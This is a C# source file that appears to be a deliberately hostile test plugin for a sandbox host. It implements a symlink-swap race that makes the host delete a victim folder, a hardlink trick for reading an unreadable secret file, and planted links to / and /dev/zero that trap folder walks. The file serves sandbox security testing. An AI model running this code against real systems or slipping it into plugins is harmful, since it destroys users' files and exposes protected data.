using Stockade.Plugin;

namespace Samples.Hostile;

// Issue 14, class 5: host file operations in plugin-writable folders. The worker keeps swapping
// directories of its own $TEMP (or $PLUGIN_DATA) for symlinks to a victim folder; a host that
// removes or walks the folder by path while this runs follows a link and deletes the victim's files.
public sealed partial class HostilePlugin
{
    private const int SwapFolders = 8;
    private const int FilesPerFolder = 16;

    /// <summary>
    /// Starts a background swapper for <c>Seconds</c> (default 60) in <c>$TEMP</c> (<c>Name</c> =
    /// <c>temp</c>) or <c>$PLUGIN_DATA</c> (<c>Name</c> = <c>data</c>), pointing the links at
    /// <c>Path</c>, and returns at once. Succeeded means only that it runs; the test checks the victim.
    /// </summary>
    [PluginMethod("swapper")]
    public AttemptReport Swapper(ProbeInput? input)
    {
        var victim = input?.Path ?? "/";
        var root = input?.Name == "data" ? DataDirectory : _context?.TempDirectory ?? Path.GetTempPath();
        var until = DateTime.UtcNow.AddSeconds(input?.Seconds ?? 60);
        return AttemptReport.Try($"swapper {root} -> {victim}", () =>
        {
            Directory.CreateDirectory(root);
            var thread = new Thread(() => Swap(root, victim, until)) { IsBackground = true, Name = "swapper" };
            thread.Start();
        });
    }

    /// <summary>Hardlinks a file it cannot read into <c>$PLUGIN_DATA</c> and reads it there (a neighbour of classes 5 and 6).</summary>
    [PluginMethod("hardlinkSecret")]
    public AttemptReport HardlinkSecret(ProbeInput? input)
    {
        var secret = input?.Path ?? DefaultSecret;
        var link = Path.Combine(DataDirectory, "hard-secret");
        return AttemptReport.Try($"hardlinkSecret {secret}", () =>
        {
            File.Delete(link);
            using (var from = new Native.CString(secret))
            using (var to = new Native.CString(link))
            {
                Native.Checked("link(secret, $PLUGIN_DATA/hard-secret)", 86, from, to);
            }

            _ = File.ReadAllBytes(link);
        });
    }

    /// <summary>
    /// Plants symlinks to <c>/</c> and <c>/dev/zero</c> and, where allowed, a FIFO in <c>$PLUGIN_DATA</c> and <c>$TEMP</c>,
    /// for a host that walks or measures those folders (the watchdog's disk size, uninstall). Succeeded
    /// means they were planted; the test checks the host afterwards.
    /// </summary>
    [PluginMethod("plantLinks")]
    public AttemptReport PlantLinks() => AttemptReport.Try("plantLinks / and /dev/zero in $PLUGIN_DATA and $TEMP", () =>
    {
        foreach (var folder in new[] { DataDirectory, _context?.TempDirectory ?? Path.GetTempPath() })
        {
            Directory.CreateDirectory(folder);
            Replace(Path.Combine(folder, "link-root"), () => File.CreateSymbolicLink(Path.Combine(folder, "link-root"), "/"));
            Replace(Path.Combine(folder, "link-zero"), () => File.CreateSymbolicLink(Path.Combine(folder, "link-zero"), "/dev/zero"));
            try
            {
                // Landlock grants no MAKE_FIFO in the writable folders; a FIFO is planted only where it does.
                Replace(Path.Combine(folder, "fifo"), () =>
                {
                    using var name = new Native.CString(Path.Combine(folder, "fifo"));
                    Native.Checked("mknod(S_IFIFO)", Native.SysMknod, name, 0x1000 | 0x1b6, 0);
                });
            }
            catch (System.ComponentModel.Win32Exception)
            {
            }
        }
    });

    private static void Replace(string path, Action create)
    {
        if (File.Exists(path) || Directory.Exists(path) || new FileInfo(path).LinkTarget is not null)
        {
            File.Delete(path);
        }

        create();
    }

    private static void Swap(string root, string victim, DateTime until)
    {
        while (DateTime.UtcNow < until)
        {
            for (var i = 0; i < SwapFolders; i++)
            {
                var folder = Path.Combine(root, $"swap-{i}");
                var aside = folder + ".aside";
                try
                {
                    if (!Directory.Exists(aside) && new DirectoryInfo(folder).LinkTarget is null && !Directory.Exists(folder))
                    {
                        Directory.CreateDirectory(Path.Combine(folder, "inner"));
                        for (var f = 0; f < FilesPerFolder; f++)
                        {
                            File.WriteAllBytes(Path.Combine(folder, $"f{f}"), []);
                        }
                    }

                    // The window a path-based delete falls into: listed as a folder, entered as a link.
                    Directory.Move(folder, aside);
                    Directory.CreateSymbolicLink(folder, victim);

                    // About as long a link as a folder, so a delete that listed a folder often enters a link.
                    Thread.Sleep(1);
                    File.Delete(folder);
                    Directory.Move(aside, folder);
                    Thread.Sleep(1);
                }
                catch (Exception e) when (e is IOException or UnauthorizedAccessException)
                {
                    // The host is deleting the folder under us; that is the point. Tidy up and go on.
                    try
                    {
                        if (new FileInfo(folder).LinkTarget is not null)
                        {
                            File.Delete(folder);
                        }
                    }
                    catch (Exception again) when (again is IOException or UnauthorizedAccessException)
                    {
                    }
                }
            }
        }
    }
}
